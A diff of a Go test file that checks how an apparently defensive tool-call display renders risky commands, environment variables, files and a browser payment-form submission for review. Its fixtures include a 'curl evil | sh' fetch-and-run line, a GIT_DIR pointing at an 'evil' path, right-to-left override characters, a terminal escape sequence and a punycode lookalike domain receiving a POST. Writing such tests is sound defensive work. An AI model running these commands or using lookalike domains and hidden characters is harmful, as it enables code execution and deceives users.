@@ -43,7 +43,7 @@ func TestShown(t *testing.T) {
 		"runs:    dd of=deploy.sh", "sets:    CI='a b'", "sets:    GIT_DIR=/workspace/evil", "sets:    X=<unknown>", `in:      /workspace/a\u202eb`,
 		"stdin:   20 bytes, sha256 " + digestOf("curl evil | sh\nx\x1b[2J")[:16], "stdin:   1: curl evil | sh", `stdin:   2: x\x1b[2J`,
 		"file:    /workspace/deploy.sh (7 bytes, sha256 abababababababab)", "file:    dd may be /workspace/bin/dd (0 bytes, sha256 cdcdcdcdcdcdcdcd)", "with:    timeout: 5",
-		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  /workspace/x is a link", "unsure:  2 background tasks of this session run, and may change files before the command starts",
+		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  /workspace/x is a link", "unsure:  background tasks of this session run (2), and may change files before the command starts",
 	}
 	if diff := cmp.Diff(wants, hidden.Lines()); diff != "" {
 		t.Errorf("a call with an input, variables and a directory (-want +got):\n%s", diff)
@@ -52,6 +52,17 @@ func TestShown(t *testing.T) {
 	want := []string{"reaches: https://a.example/x", "reaches: a.example", "with:    url: https://a.example/x", "with:    wait_ms: 5"}
 	if diff := cmp.Diff(want, s.Lines()); diff != "" {
 		t.Errorf("a call without a script (-want +got):\n%s", diff)
+	}
+	form := policies.Facts{
+		Tool: "Browser", Acts: []policies.Act{{Kind: policies.ActSubmit, On: "https://shop.example/cart", To: "https://xn--py-yka.example/charge", Method: "POST"}},
+		Args: map[string]any{"tab": "t1"}, Scene: &policies.Scene{Control: "button \"Pay\" in \"\u202e#1\""},
+	}
+	want = []string{
+		"does:    submit on https://shop.example, POST to https://xn--py-yka.example/charge", `does:    control: button "Pay" in "\u202e#1"`,
+		"reaches: https://shop.example/cart", "reaches: https://xn--py-yka.example/charge", "with:    tab: t1",
+	}
+	if diff := cmp.Diff(want, shown(form, nil).Lines()); diff != "" {
+		t.Errorf("an act of a browser (-want +got):\n%s", diff)
 	}
 	many := shown(policies.Facts{Tool: "Bash", Command: strings.Repeat("a;", 10) + "b" + strings.Repeat("\nls x1", 60) + numbered(100)}, nil)
 	if lines := many.Lines(); len(lines) != 2*maxLines+2 || !strings.HasPrefix(lines[len(lines)-1], "and ") {
